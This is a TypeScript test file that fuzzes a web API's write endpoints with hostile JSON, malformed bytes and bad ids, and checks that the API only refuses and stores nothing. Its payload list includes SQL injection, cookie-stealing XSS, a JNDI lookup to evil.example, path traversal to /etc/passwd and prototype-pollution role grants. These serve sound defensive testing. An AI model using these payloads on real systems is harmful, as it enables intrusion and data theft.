// Hostile input on every write endpoint (ingest included): random JSON, SQL and HTML injection
// strings, huge numbers, deep nesting, wrong types, invalid UTF-8 bytes, missing fields, odd
// content types, odd ids in the path. Only 4xx answers, never a 500 or a stack trace, and
// nothing is stored. Strings that are hostile but valid content are stored verbatim, as text.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import postgres from 'postgres';
import { Redis } from 'ioredis';
import { complaint, DEMO_KEY, loginAs, postEvents, startTestServer, TEST_REDIS_URL, waitFor, type LoggedIn, type TestServer } from '../support/test-env.ts';

let server: TestServer;
let sql: postgres.Sql;
let redis: Redis;
let admin: LoggedIn;
let actors: Record<"operator" | "teknisi", LoggedIn>;
let realIds: { user: string; displayToken: string; device: string; apiKey: string };

const HOSTILE_STRINGS = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '" OR ""="',
  "admin'--",
  '1; SELECT pg_sleep(5)',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  'javascript:alert(1)',
  '{{7*7}}${7*7}',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '%00%2e%2e%2f',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\u202e\u0644\u0627',
  '🙈'.repeat(50),
  'x'.repeat(20_000),
  '__proto__',
  'constructor',
];

const HOSTILE_NUMBERS = ['1e400', '-1e400', '1e308', '9007199254740993', '-0', '0.0000000000000000000001', '123456789012345678901234567890'];

/** Raw bodies (strings or bytes) that are not valid input anywhere. */
const RAW_BODIES: (string | Buffer)[] = [
  '',
  '{',
  '{"events": [',
  'null',
  'true',
  '[]',
  '"string"',
  '42',
  '{}',
  '[[[[[[[[[[]]]]]]]]]]',
  '['.repeat(6000) + ']'.repeat(6000),
  `{"a":${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}}`,
  ...HOSTILE_NUMBERS.map((n) => `{"events":[${n}],"username":${n},"password":${n},"label":${n},"rateLimitPerMinute":${n},"graceSeconds":${n}}`),
  '{"__proto__":{"roles":["admin"],"admin":true},"constructor":{"prototype":{"admin":true}}}',
  '{"username":"a","username":"b"}',
  Buffer.from([0x7b, 0x22, 0x6c, 0x61, 0x62, 0x65, 0x6c, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80, 0x22, 0x7d]),
  Buffer.from([0xff, 0xfe, 0xfd, 0x00, 0x01]),
  Buffer.from([0xef, 0xbb, 0xbf, 0x7b, 0x7d]),
  // Valid JSON, invalid text: NUL and lone surrogates in every field anyone reads.
  ...['\\u0000', '\\ud800', 'a\\udc00b'].map(
    (bad) =>
      `{"username":"u${bad}","password":"p${bad}xxxxxxxxxxxx","roles":["admin"],"label":"l${bad}","screenName":"s${bad}","code":"c${bad}","name":"n${bad}",` +
      `"displayName":"d${bad}","currentPassword":"c${bad}","newPassword":"n${bad}xxxxxxxxxxxxx","events":[{"source":"demo","externalId":"x${bad}","occurredAt":"2026-11-20T09:00:00+07:00","channel":"MRK","category":"sampah","text":"t${bad}"}]}`,
  ),
];

/** JSON values with hostile shapes and strings. */
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.anything({ maxDepth: 4, withNullPrototype: true, withObjectString: true }),
  fc.constantFrom(...HOSTILE_STRINGS),
  fc.dictionary(fc.constantFrom('username', 'password', 'roles', 'opd', 'label', 'screenName', 'code', 'name', 'events', 'active', 'rateLimitPerMinute', 'graceSeconds', 'currentPassword', 'newPassword', 'displayName'), fc.oneof(fc.constantFrom(...HOSTILE_STRINGS), fc.anything({ maxDepth: 2 }), fc.double(), fc.integer())),
  fc.record({ events: fc.array(fc.oneof(fc.anything({ maxDepth: 3 }), fc.record({ source: fc.constantFrom('demo', ...HOSTILE_STRINGS), externalId: fc.constantFrom(...HOSTILE_STRINGS), occurredAt: fc.constantFrom(...HOSTILE_STRINGS, 1e400 as number) })), { maxLength: 5 }) }),
  fc.record({ username: fc.constantFrom(...HOSTILE_STRINGS), password: fc.oneof(fc.constantFrom(...HOSTILE_STRINGS), fc.integer(), fc.array(fc.string())), roles: fc.oneof(fc.constantFrom('admin', ['superuser'], [['admin']], { admin: true }), fc.array(fc.constantFrom(...HOSTILE_STRINGS))) }),
);

const hostileId = fc.oneof(
  fc.constantFrom('00000000-0000-0000-0000-000000000000', 'not-a-uuid', "1' OR '1'='1", '..', '%00', '-1', '1e400', 'x'.repeat(3000), '<script>', '__proto__'),
  fc.string({ minLength: 1, maxLength: 40 }),
  fc.uuid(),
);

interface Endpoint {
  method: 'POST' | 'PATCH' | 'PUT' | 'DELETE';
  path: (id: string) => string;
  auth: 'key' | 'session' | 'none';
  /** Whose session (default admin): the role that may use the endpoint, so bodies get parsed. */
  as?: 'operator' | 'teknisi';
  /** Where `{}` or no body is a valid, storing request, bodies are never empty objects. */
  noEmpty?: boolean;
  ids?: 'real' | 'fake';
}

function endpoints(): Endpoint[] {
  return [
    { method: 'POST', path: () => '/api/v1/complaints', auth: 'key' },
    { method: 'POST', path: () => '/api/v1/uploads', auth: 'key' },
    { method: 'POST', path: () => '/api/v1/heartbeats', auth: 'key' },
    { method: 'POST', path: () => '/api/v1/auth/login', auth: 'none' },
    { method: 'POST', path: () => '/api/v1/auth/logout', auth: 'none', noEmpty: true },
    { method: 'POST', path: () => '/api/v1/auth/password', auth: 'session' },
    { method: 'POST', path: () => '/api/v1/admin/users', auth: 'session' },
    { method: 'PATCH', path: (id) => `/api/v1/admin/users/${id}`, auth: 'session', ids: 'real', noEmpty: true },
    { method: 'POST', path: () => '/api/v1/admin/display-tokens', auth: 'session' },
    { method: 'POST', path: (id) => `/api/v1/admin/display-tokens/${id}/revoke`, auth: 'session', ids: 'fake' },
    { method: 'POST', path: (id) => `/api/v1/admin/display-devices/${id}/revoke`, auth: 'session', ids: 'fake' },
    { method: 'POST', path: () => '/api/v1/admin/sources', auth: 'session' },
    { method: 'POST', path: (id) => `/api/v1/admin/sources/${id}/keys`, auth: 'session', ids: 'fake' },
    { method: 'POST', path: (id) => `/api/v1/admin/api-keys/${id}/rotate`, auth: 'session', ids: 'fake' },
    { method: 'POST', path: (id) => `/api/v1/admin/api-keys/${id}/revoke`, auth: 'session', ids: 'fake' },
    { method: 'PATCH', path: (id) => `/api/v1/admin/api-keys/${id}`, auth: 'session', ids: 'real', noEmpty: true },
    { method: 'POST', path: () => '/api/v1/admin/monitors', auth: 'session' },
    { method: 'PATCH', path: (id) => `/api/v1/admin/monitors/${id}`, auth: 'session', ids: 'fake' },
    { method: 'POST', path: () => '/api/v1/admin/notification-channels', auth: 'session' },
    { method: 'PATCH', path: (id) => `/api/v1/admin/notification-channels/${id}`, auth: 'session', ids: 'fake' },
    // The operator's and technicians' actions.
    { method: 'POST', path: (id) => `/api/v1/complaints/${id}/transitions`, auth: 'session', as: 'operator', ids: 'fake' },
    { method: 'POST', path: (id) => `/api/v1/incidents/${id}/acknowledge`, auth: 'session', as: 'teknisi', ids: 'fake' },
    { method: 'POST', path: (id) => `/api/v1/incidents/${id}/resolve`, auth: 'session', as: 'teknisi', ids: 'fake' },
    { method: 'POST', path: (id) => `/api/v1/monitors/${id}/maintenance`, auth: 'session', as: 'teknisi', ids: 'fake' },
    { method: 'PUT', path: (id) => `/api/v1/maintenance/${id}`, auth: 'session', as: 'teknisi', ids: 'fake' },
    { method: 'DELETE', path: (id) => `/api/v1/maintenance/${id}`, auth: 'session', as: 'teknisi', ids: 'fake' },
    // Uptime Kuma-style push URL: the token in the path is the credential.
    { method: 'POST', path: (id) => `/api/push/${id}`, auth: 'none', ids: 'fake' },
  ];
}

const STORED_TABLES = ['users', 'sessions', 'display_tokens', 'display_devices', 'sources', 'api_keys', 'complaints', 'complaint_status_history', 'upload_records', 'check_results', 'ingest_batches', 'maintenance_windows', 'incident_events', 'monitors', 'notification_channels'];

async function storedCounts() {
  const out: Record<string, number> = {};
  for (const table of STORED_TABLES) out[table] = Number((await sql`select count(*)::int as n from ${sql(table)}`)[0].n);
  // Failed logins are audited by design; anything else in the audit log would be a stored change.
  out.audit = Number((await sql`select count(*)::int as n from audit_log where action not like 'auth.%'`)[0].n);
  out.revokedKeys = Number((await sql`select count(*)::int as n from api_keys where revoked_at is not null`)[0].n);
  out.revokedTokens = Number((await sql`select count(*)::int as n from display_tokens where revoked_at is not null`)[0].n);
  for (const kind of ['complaints', 'uploads', 'heartbeats']) out[`stream:${kind}`] = await redis.xlen(`${server.prefix}stream:${kind}`);
  return out;
}

beforeAll(async () => {
  // No prober: its own check results (a push monitor falling silent a minute after the start)
  // would land in the window where "nothing was stored" is asserted.
  server = await startTestServer({ roles: { web: true, processors: true, prober: false } });
  sql = postgres(server.db.url, { max: 2, onnotice: () => {} });
  redis = new Redis(TEST_REDIS_URL);
  admin = await loginAs(server, ['admin']);
  actors = { operator: await loginAs(server, ['operator']), teknisi: await loginAs(server, ['teknisi']) };
  // Real objects for the endpoints that take an id (PATCH with random bodies must still refuse).
  const other = await loginAs(server, ['pimpinan']);
  const token = await (await fetch(`${server.url}/api/v1/admin/display-tokens`, { method: 'POST', headers: { ...admin.headers, 'content-type': 'application/json' }, body: '{"label":"fuzz"}' })).json();
  const paired = await fetch(`${server.url}/wall?token=${token.token}`, { redirect: 'manual' });
  expect(paired.status).not.toBe(500);
  const [device] = await sql`select id from display_devices limit 1`;
  const [key] = await sql`select id from api_keys limit 1`;
  realIds = { user: other.userId, displayToken: token.displayToken.id, device: device?.id ?? '00000000-0000-0000-0000-000000000000', apiKey: key.id };
});

afterAll(async () => {
  redis?.disconnect();
  await sql?.end();
  await server?.stop();
});

async function send(e: Endpoint, id: string, body: unknown, raw?: string | Buffer, contentType = 'application/json') {
  const headers: Record<string, string> = { 'content-type': contentType, origin: server.url };
  if (e.auth === 'key') headers.authorization = `Bearer ${DEMO_KEY}`;
  if (e.auth === 'session') headers.cookie = (e.as ? actors[e.as] : admin).cookie;
  const res = await fetch(`${server.url}${e.path(encodeURIComponent(id))}`, {
    method: e.method,
    headers,
    body: raw !== undefined ? (Buffer.isBuffer(raw) ? new Uint8Array(raw) : raw) : body === undefined ? undefined : JSON.stringify(body),
  });
  const text = await res.text();
  return { status: res.status, text };
}

/** `{}` or nothing (with or without a byte-order mark) is valid where no fields are expected. */
function isEmptyBody(raw: string | Buffer): boolean {
  const text = Buffer.isBuffer(raw) ? raw.toString('utf8') : raw;
  return ['', '{}'].includes(text.replace(/^\uFEFF/, ''));
}

function expectNoServerError(r: { status: number; text: string }, what: string) {
  expect(r.status, `${what} -> ${r.status} ${r.text.slice(0, 300)}`).toBeLessThan(500);
  expect(r.text).not.toMatch(/\n\s+at |node_modules|\/server\/|Error:/);
}

function expectRefused(r: { status: number; text: string }, what: string) {
  expect(r.status, `${what} -> ${r.status} ${r.text.slice(0, 300)}`).toBeGreaterThanOrEqual(400);
  expect(r.status, `${what} -> ${r.status} ${r.text.slice(0, 300)}`).toBeLessThan(500);
  // Never a stack trace or an internal path.
  expect(r.text).not.toMatch(/\n\s+at |node_modules|\/server\/|Error:/);
}

describe('hostile input on every write endpoint', () => {
  it('fixed hostile bodies: only 4xx', async () => {
    for (const e of endpoints()) {
      const id = e.ids === 'real' ? (e.path('x').includes('users') ? realIds.user : realIds.apiKey) : '00000000-0000-0000-0000-000000000000';
      for (const raw of RAW_BODIES) {
        if (e.noEmpty && isEmptyBody(raw)) continue;
        expectRefused(await send(e, id, undefined, raw), `${e.method} ${e.path(':id')} raw ${String(raw).slice(0, 40)}`);
      }
      for (const contentType of ['text/plain', 'application/x-www-form-urlencoded', 'application/json; charset=utf-16', 'multipart/form-data; boundary=x']) {
        const r = await send(e, id, undefined, 'username=a&password=b&events=1', contentType);
        expectRefused(r, `${e.method} ${e.path(':id')} as ${contentType}`);
      }
    }
  });

  it('random hostile bodies and ids (fast-check): never a 5xx or a stack trace', async () => {
    for (const e of endpoints()) {
      await fc.assert(
        fc.asyncProperty(hostileValue, hostileId, async (body, fakeId) => {
          const id = e.ids === 'real' ? (e.path('x').includes('users') ? realIds.user : realIds.apiKey) : fakeId;
          // The real user and key must not change (a random `{"active": false}` is a valid
          // request): an unknown field makes every body for them invalid (the schemas are strict).
          if (e.ids === 'real' && body && typeof body === 'object' && !Array.isArray(body)) body = { ...body, fuzzUnknownField: true };
          let json: string | undefined;
          try {
            json = JSON.stringify(body);
          } catch {
            return;
          }
          // Judge emptiness on what is sent: `{"": undefined}` serialises to `{}`, a valid empty body.
          if (e.noEmpty && (json === undefined || isEmptyBody(json))) return;
          // Random bodies are sometimes valid (`{"label": "' OR '1'='1"}` is a fine label): the
          // property is "never a 5xx or a stack trace"; refusal is asserted on the fixed bodies.
          expectNoServerError(await send(e, id, undefined, json ?? 'undefined'), `${e.method} ${e.path(':id')} ${String(json).slice(0, 120)}`);
        }),
        { numRuns: e.auth === 'none' && e.path('x').includes('login') ? 40 : 60 },
      );
    }
  });

  it('nothing from any refused request was stored', async () => {
    const before = await storedCounts();
    // One more round of everything, then compare.
    for (const e of endpoints()) {
      for (const raw of RAW_BODIES.slice(0, 14)) {
        if (e.noEmpty && isEmptyBody(raw)) continue;
        await send(e, e.ids === 'real' ? (e.path('x').includes('users') ? realIds.user : realIds.apiKey) : 'ffffffff-ffff-4fff-bfff-ffffffffffff', undefined, raw);
      }
    }
    await new Promise((r) => setTimeout(r, 500));
    expect(await storedCounts()).toEqual(before);
    const [u] = await sql`select roles, active from users where id = ${realIds.user}`;
    expect(u).toEqual({ roles: ['pimpinan'], active: true });
    const [d] = await sql`select revoked_at from display_tokens where id = ${realIds.displayToken}`;
    expect(d.revoked_at).toBeNull();
  });

  it('hostile strings that are valid content are stored verbatim and only as text', async () => {
    const texts = HOSTILE_STRINGS.filter((s) => !s.includes('\u0000') && s !== '\ud800' && s.length <= 2000 && s.trim() === s);
    const events = texts.map((text, i) => complaint({ text, title: text.slice(0, 200), note: text.slice(0, 2000), actor: text.slice(0, 200), externalId: `hostile-${i}-${Date.now()}` }));
    const res = await postEvents(server.url, 'complaints', { events });
    expect(res.status).toBe(202);
    await waitFor(async () => Number((await sql`select count(*)::int as n from complaints where external_id like 'hostile-%'`)[0].n) === events.length, 15_000);
    for (const e of events) {
      const [row] = await sql`select text from complaints where external_id = ${e.externalId}`;
      expect(row.text).toBe(e.text);
    }
    // The tables an injection would have hit are intact.
    expect(Number((await sql`select count(*)::int as n from users`)[0].n)).toBeGreaterThanOrEqual(2);
    // NUL cannot be stored in PostgreSQL text: refused up front, naming the field.
    const nul = await postEvents(server.url, 'complaints', { events: [complaint({ text: 'a\u0000b' })] });
    expect(nul.status).toBe(400);
    expect(nul.body.errors[0].field).toBe('events[0].text');
    // Nor can jsonb hold a lone UTF-16 surrogate: refused too, instead of failing in a processor.
    const lone = await postEvents(server.url, 'complaints', { events: [complaint({ text: 'a\ud800b' })] });
    expect(lone.status).toBe(400);
    expect(lone.body.errors[0].field).toBe('events[0].text');
  });
});
